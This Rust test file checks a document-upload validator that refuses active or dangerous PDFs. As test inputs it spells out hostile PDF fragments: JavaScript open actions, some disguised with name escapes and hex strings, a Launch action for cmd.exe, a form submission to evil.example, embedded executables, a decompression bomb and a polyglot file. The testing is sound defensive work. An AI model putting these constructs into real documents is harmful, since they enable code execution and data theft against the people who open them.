//! PDFs that would do more than be read.

use crate::made::{docx, pdf, pdf_with, stream};
use geleit_exchange::files::{Refusal, receive};
use std::fmt::Write;

fn refused(bytes: Vec<u8>) -> Refusal {
    receive(bytes).unwrap_err()
}

/// Proves S1-40.
#[test]
fn scripts_and_actions_are_refused_however_they_are_written() {
    for catalogue in [
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /J#61vaScript /J#53 <6170702e616c657274> >>",
        "/AA << /O << /S/Launch/F(cmd.exe)>> >>",
        "/Names << /JavaScript 9 0 R >>",
        "/AcroForm << /XFA 9 0 R >>",
        "/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
        "/OpenAction << /S /GoToE /F (inside.pdf) >>",
        "/X (a text \\) with ( pairs ) ) /OpenAction << /S /Launch >>",
        "% a comment ( that opens nothing\n /OpenAction << /S /Launch >>",
    ] {
        assert_eq!(refused(pdf(catalogue, "")), Refusal::Active, "{catalogue}");
    }
}

#[test]
fn an_action_is_found_where_no_table_leads() {
    let action = b"7 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n";
    // An older version of an object, one inside the text of another, one inside a stream.
    assert_eq!(refused(pdf_with("", action)), Refusal::Active);
    let in_text = [b"6 0 obj\n( never closed ", &action[..]].concat();
    assert_eq!(refused(pdf_with("", &in_text)), Refusal::Active);
    let in_stream = [b"6 0 obj\n<< /Length 60 >>\nstream\n", &action[..], b"endstream\nendobj\n"];
    assert_eq!(refused(pdf_with("", &in_stream.concat())), Refusal::Active);
    let held = stream(6, "/Type /ObjStm /N 1 /First 4", b"7 0 << /S /JavaScript /JS (x) >>");
    assert_eq!(refused(pdf_with("", &held)), Refusal::Active);
    let unsaid = stream(6, "/N 1 /First 4", b"7 0 << /S /Launch >>");
    assert_eq!(refused(pdf_with("", &unsaid)), Refusal::Active);
}

#[test]
fn the_same_words_in_a_text_are_only_words() {
    let title = "/Info << /Title (Web developer: HTML/JavaScript /Launch) >>";
    assert!(receive(pdf(title, "")).is_ok());
    let page = stream(6, "", b"BT (HTML /JavaScript /JS) Tj ET");
    assert!(receive(pdf_with("", &page)).is_ok());
    let plain =
        b"6 0 obj\n<< /Length 30 >>\nstream\nBT (CSS /JavaScript) Tj ET\nendstream\nendobj\n";
    assert!(receive(pdf_with("/OpenAction [3 0 R /Fit]", plain)).is_ok());
}

#[test]
fn objects_that_cannot_be_looked_through_are_refused() {
    assert_eq!(refused(pdf("/Encrypt 9 0 R", "")), Refusal::Protected);
    let odd = b"6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n00>\nendstream endobj\n";
    assert_eq!(refused(pdf_with("", odd)), Refusal::Damaged);
    let bomb = stream(6, "/Type /ObjStm /N 1 /First 4", &vec![b' '; 17 << 20]);
    assert_eq!(refused(pdf_with("", &bomb)), Refusal::UnpacksTooLarge);
    let mut endless = String::new();
    for number in 10..20_000 {
        write!(endless, "{number} 0 obj ( ").unwrap();
    }
    assert_eq!(refused(pdf("", &endless)), Refusal::Damaged);
}

#[test]
fn only_a_europass_record_may_be_attached() {
    let attach = "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a) /EF << /F 6 0 R >> >>] >> >>";
    for content in [&b"MZ\x90\0 a program"[..], &docx(&[]), b"%PDF-1.7", b"<svg/>", b"words"] {
        for dictionary in ["/Type /EmbeddedFile", ""] {
            let attached = stream(6, dictionary, content);
            assert_eq!(refused(pdf_with(attach, &attached)), Refusal::Attachment);
        }
    }
    let record =
        stream(6, "", b"<?xml version=\"1.0\"?><Candidate xmlns=\"http://www.europass.eu/1.0\"/>");
    assert!(receive(pdf_with(attach, &record)).is_ok());
    assert_eq!(refused(pdf("/EF 6 0 R", "")), Refusal::Attachment);
}

#[test]
fn a_pdf_that_is_also_something_else_or_breaks_off_is_refused() {
    let whole = pdf("", "");
    assert_eq!(refused([&whole[..], &docx(&[])].concat()), Refusal::Damaged);
    assert_eq!(refused(whole[..whole.len() - 8].to_vec()), Refusal::Damaged);
    assert_eq!(refused(b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF".to_vec()), Refusal::Damaged);
}
